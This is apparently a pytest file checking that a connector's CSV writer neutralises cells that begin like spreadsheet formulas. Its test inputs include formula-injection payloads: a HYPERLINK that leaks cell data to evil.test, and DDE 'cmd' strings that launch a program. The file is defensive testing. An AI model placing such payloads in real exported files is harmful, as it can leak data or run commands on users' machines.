"""What the hub writes as CSV runs nothing in a spreadsheet, and is read again as it was."""

from __future__ import annotations

import ast
import csv
from io import StringIO
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from connector.cli.csv_rows import read_sheet, write_rows
from connector_file.templates import write_templates

ROOT = Path(__file__).parents[2]
CONSTANTS = {
    "src/connector/cli/csv_rows.py": "the one place",
    "src/connector/demo/home.py": "the demo's own hubs and products, which the hub reads",
    "adapters/connector_file/templates.py": "examples that stand in the program, checked below",
    "adapters/connector_file/sandbox.py": "for tests",
}
BEGINS = "=+-@\t\r\n＝＋－＠"


def written(*rows: list[object]) -> str:
    out = StringIO(newline="")
    write_rows(out, rows)
    return out.getvalue()


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.test/?"&A1)', "=1+1", "+1", "-1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1",
        "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    ],
)  # fmt: skip
def test_a_text_that_begins_like_a_formula_is_marked_as_text(text: str):
    ((cell,),) = csv.reader(StringIO(written([text]), newline=""))

    assert cell == f"'{text}".replace("\r", "\n")


def test_numbers_and_other_texts_are_written_as_they_are():
    assert written([-1, 2.5, None, "Dock 1", "a=b", "x-1", "'quoted'", ""]) == "-1,2.5,,Dock 1,a=b,x-1,'quoted',\n"


@given(st.lists(st.text(alphabet=st.sampled_from("'=+-@a1 ＝"), min_size=1, max_size=6), min_size=1, max_size=4))
def test_whatever_is_written_is_read_again_as_it_was(tmp_path_factory: pytest.TempPathFactory, cells: list[str]):
    path = tmp_path_factory.getbasetemp() / "again.csv"
    names = [f"c{number}" for number in range(len(cells))]
    path.write_text(written(list(names), list(cells)), encoding="utf-8")

    read = [dict(row.values) for row in read_sheet(path, required=(), optional=names).rows]

    expected = {name: cell.strip() for name, cell in zip(names, cells, strict=True) if cell.strip()}
    assert read == ([expected] if expected else [])
    head, *rest = csv.reader(StringIO(path.read_text(encoding="utf-8"), newline=""))
    assert head == names
    assert all(cell[0] not in BEGINS for row in rest for cell in row)


def test_csv_is_written_in_one_place():
    found = {
        str(path.relative_to(ROOT))
        for folder in ("src", "adapters")
        for path in (ROOT / folder).rglob("*.py")
        if "tests" not in path.parts and _writes_csv(path)
    }

    assert found == set(CONSTANTS)


def test_no_example_of_the_templates_begins_like_a_formula_unless_it_is_a_number(tmp_path: Path):
    for path in write_templates(tmp_path):
        for row in csv.reader(StringIO(path.read_text(encoding="utf-8"), newline="")):
            for cell in row:
                assert cell[:1] not in BEGINS or not cell or float(cell)


def _writes_csv(path: Path) -> bool:
    return any(
        isinstance(node, ast.Attribute)
        and node.attr in ("writer", "DictWriter")
        and isinstance(node.value, ast.Name)
        and node.value.id == "csv"
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8")))
    )
